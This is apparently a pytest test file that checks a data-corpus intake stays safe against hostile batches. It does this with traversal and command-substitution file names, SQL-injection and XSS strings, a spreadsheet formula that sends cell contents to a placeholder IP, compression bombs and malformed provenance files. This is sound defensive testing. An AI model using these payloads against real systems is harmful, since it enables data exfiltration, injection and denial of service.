"""A hostile batch does no harm: its content stays data, and its demands stay below the limits."""

import bz2
import gzip
import io
import json
import lzma
import zipfile
from pathlib import Path
from typing import Any

import polars as pl
import pyarrow as pa
import pytest

from outcross.assets.corpus.audit.audit import audit
from outcross.assets.corpus.corpus import Limits
from outcross.assets.corpus.intake.reading import read_batch
from outcross.assets.corpus.ledger.ledger import read_version
from outcross.assets.corpus.open_corpus import OpenCorpus
from outcross.assets.corpus.quarantine.decisions import release
from outcross.assets.export import FORMATS
from outcross.assets.export.corpus import describe_version
from outcross.resources.errors import BadInput
from outcross.resources.schema import Column, Role, Schema
from outcross.resources.sources.locate import SourceFile
from outcross.resources.store import Store
from outcross.resources.warehouse import query
from tests.assets.corpus.opened_once import open_once
from tests.assets.corpus.test_ingest import AT, ROWS, corpus_settings, quarantined, take

SQL = 'x"; DROP VIEW ledger; --'
FORMULA, HTML = '=HYPERLINK("http://192.0.2.1/?"&A1)', "<img src=x onerror=alert(1)>"


@pytest.fixture
def people(tmp_path: Path) -> OpenCorpus:
    return open_once(corpus_settings(tmp_path, mode="observe"), Store(tmp_path / "data"), by="test", at=AT)


def below(folder: Path) -> set[Path]:
    """List every file below a folder, without the store's own."""
    return {path for path in folder.rglob("*") if path.is_file() and "corpora" not in path.parts}


@pytest.mark.parametrize(
    "name", ["..csv", "...%2f..%2fpasswd.csv", "a\nb.csv", "$(touch gone).csv", "'\"; --.csv", "\u202efdp.csv"]
)
def test_a_path_in_a_file_name_is_not_followed(people: OpenCorpus, tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(ROWS[4_000:4_010].write_csv().encode())
    before = below(tmp_path)
    found = take(people, path)
    assert below(tmp_path) == before
    assert found.batch
    inside = people.files.list(f"batches/{found.batch}")
    assert {each.rsplit("/", 1)[-1].split(".")[0].split("-")[0] for each in inside} <= {
        "claims",
        "expectations",
        "original",
        "admitted",
        "quarantined",
        "refused",
    }


@pytest.mark.parametrize("name", ["../../gone", "/etc/passwd", SQL, HTML, FORMULA, "a" * 10_000, "\x00"])
def test_a_column_outside_the_schema_is_not_ingested(people: OpenCorpus, tmp_path: Path, name: str) -> None:
    rows = ROWS[4_000:4_400].unique(maintain_order=True).with_columns(pl.lit(1).alias(name))
    before = below(tmp_path)
    found = take(people, tmp_path / "batch.parquet", rows)
    assert (found.status, found.rows_admitted) == ("admitted", rows.height)
    assert below(tmp_path) == before | {tmp_path / "batch.parquet"}
    admitted = pl.read_parquet(people.files.location(read_version(people.files).parts[-1].path))
    assert name not in admitted.columns
    assert query(people.store, "select count(*) from ledger").item() == 2


@pytest.mark.parametrize("text", [FORMULA, HTML, SQL])
def test_the_text_of_a_cell_stays_text(people: OpenCorpus, tmp_path: Path, text: str) -> None:
    rows = ROWS[4_000:4_400].unique(maintain_order=True)
    rows = rows.with_columns(pl.when(pl.int_range(pl.len()) == 7).then(pl.lit(text)).otherwise("race").alias("race"))
    path = tmp_path / "batch.csv"
    rows.write_csv(path)
    assert take(people, path, origin="synthetic", generator=text).rows_in == rows.height
    found = query(people.store, "select race from corpus_people.rows where version = 2 and batch <> 'anchor'")
    assert text in found["race"].to_list()
    version = read_version(people.files)
    page = FORMATS["card"].write(describe_version(version, people.schema, store=people.files))
    assert HTML not in page


@pytest.mark.parametrize(
    ("limits", "reason"),
    [
        ({"bytes": 1_000}, "'limits: bytes'"),
        ({"rows": 100}, "'limits: rows'"),
        ({"text_bytes": 10_000}, "holds more than 10,000 bytes of text"),
    ],
)
def test_a_file_beyond_a_limit_is_refused_with_the_limit(tmp_path: Path, limits: dict[str, int], reason: str) -> None:
    people = open_once(corpus_settings(tmp_path, limits=limits), Store(tmp_path / "data"), by="test", at=AT)
    path = tmp_path / "batch.csv"
    ROWS[4_000:5_000].write_csv(path)
    found = take(people, path)
    assert found.status == "refused"
    assert reason in found.reasons[0]


def test_a_file_that_unpacks_to_a_thousand_times_its_size_is_refused_before_unpacking(tmp_path: Path) -> None:
    people = open_once(
        corpus_settings(tmp_path, limits={"text_bytes": 2**20, "unpacked_bytes": 2**20}),
        Store(tmp_path / "data"),
        by="test",
        at=AT,
    )
    content = ROWS[:1].write_csv().encode() + b"0" * 2**22
    bombs = {
        "bomb.csv.gz": gzip.compress(content),
        "bomb.csv.bz2": bz2.compress(content),
        "bomb.csv.xz": lzma.compress(content),
        "bomb.csv.zst": bytes(pa.compress(content, codec="zstd", asbytes=True)),
        "bomb.csv.zip": zipped(content),
        "bomb.parquet": b"",
        "bomb.arrow": b"",
        "twice.csv.gz": gzip.compress(gzip.compress(content)),
    }
    wide = pl.DataFrame({name: ["0" * 1_000] * 5_000 for name in ROWS.columns})
    wide.write_parquet(tmp_path / "bomb.parquet", compression="zstd")
    wide.write_ipc(tmp_path / "bomb.arrow", compression="zstd")
    for name, packed in bombs.items():
        if packed:
            (tmp_path / name).write_bytes(packed)
        assert (tmp_path / name).stat().st_size < 2**20
        found = take(people, tmp_path / name)
        assert found.status == "refused", name
        assert "1,048,576" in found.reasons[0] and " bytes" in found.reasons[0], found.reasons


def zipped(content: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.csv", content)
    return packed.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "row", "text", "fault"),
    [
        ("batch.csv", "a,b\n1,x\n2\n3,y\n", 1, "2", "line 3: the line has 1 fields, the header has 2"),
        ("batch.csv", 'a,b\n1,"x"y\n2,x\n3,y\n', 0, '1,"x"y', "line 2: ',' expected after '\"'"),
        ("batch.jsonl", '{"a": 1, "b": "x"}\n{"a": 2,\n{"a": 3, "b": "y"}\n', 1, '{"a": 2,', "line 2: Expecting"),
        ("batch.jsonl", '[\n{"a": 2, "b": "x"}\n{"a": 3, "b": "y"}\n', 0, "[", "line 1: Expecting value"),
        ("batch.jsonl", '{"a": 1, "b": "x"}\n{"a": 3, "b": "y"}\n7\n', 2, "7", "line 3: not an object"),
        ("batch.json", '[{"a": 1, "b": "x"},\n 7,\n{"a": 3, "b": "y"}]', 1, "7", "line 2: not an object"),
        ("batch.jsonl", '{"a": 1, "b": "x"}\n{"a": 3, "b": "\\ud800"}\n{"a": 3, "b": "y"}', 1, "", "half a surrogate"),
        ("batch.csv.gz", "a,b\n1,x\n2,y\n3,y,z\n", 2, "3,y,z", "line 4: the line has 3 fields"),
    ],
)
def test_a_bad_line_is_a_row_in_quarantine_and_the_others_are_read(
    tmp_path: Path, name: str, content: str, row: int, text: str, fault: str
) -> None:
    schema = Schema((Column(name="a", role=Role.NUMERIC, integer=True), Column(name="b", role=Role.CATEGORICAL)))
    path = tmp_path / name
    path.write_bytes(gzip.compress(content.encode()) if name.endswith("gz") else content.encode())
    (chunk,) = read_batch(SourceFile(name, path), schema, Limits())
    assert [*chunk.rows["position"], *chunk.misfits["position"]] == [*({0, 1, 2} - {row}), row]
    (raw,) = map(json.loads, chunk.misfits["raw"])
    assert text in raw["text"]
    assert raw["line"] == int(fault.split()[1].strip(":")) if fault.startswith("line") else True
    assert fault in chunk.misfits["reasons"][0][0]


def test_a_batch_with_bad_lines_is_accounted_for_and_its_lines_are_not_released(
    people: OpenCorpus, tmp_path: Path
) -> None:
    path = tmp_path / "batch.jsonl"
    good = ROWS[4_000:4_400].unique(maintain_order=True).write_ndjson().splitlines()
    path.write_text("\n".join([*good[:7], '{"age": 4', *good[7:]]))
    found = take(people, path)
    assert (found.status, found.rows_in, found.rows_admitted) == ("partly admitted", len(good) + 1, len(good))
    (held,) = quarantined(people, found).to_dicts()
    assert held["position"] == 7
    assert json.loads(held["raw"]) == {"line": 8, "text": '{"age": 4'}
    assert audit(people).problems == ()
    with pytest.raises(BadInput, match="unreadable by the corpus's schema: row 7"):
        release(people, found.batch, positions=None, reason="try", by="test", at=AT)


@pytest.mark.parametrize(
    "claims", [{"rows": 10**12}, {"bytes": 1}, {"sha256": "0" * 64}, {"rows": 400, "bytes": 2**63 - 1}]
)
def test_provenance_that_contradicts_its_file_holds_the_batch(
    people: OpenCorpus, tmp_path: Path, claims: dict[str, Any]
) -> None:
    path = tmp_path / "batch.parquet"
    path.with_name("batch.parquet.provenance.json").write_text(json.dumps(claims))
    found = take(people, path, ROWS[4_000:4_400])
    assert found.status == "held"
    assert any("its provenance states" in reason for reason in found.reasons)
    assert quarantined(people, found).height == 400


@pytest.mark.parametrize(
    "content", [b"[" * 100_000, b'{"rows": 1e999}', b'{"origin": ["real"]}', b"\xff" * 40, b"{" + b" " * 2**21 + b"}"]
)
def test_a_file_with_unreadable_provenance_is_refused_and_recorded(
    people: OpenCorpus, tmp_path: Path, content: bytes
) -> None:
    path = tmp_path / "batch.parquet"
    path.with_name("batch.parquet.provenance.json").write_bytes(content)
    found = take(people, path, ROWS[4_000:4_400])
    assert found.status == "refused"
    assert "provenance" in found.reasons[0]
    assert people.files.exists(f"batches/{found.batch}/refused.json")
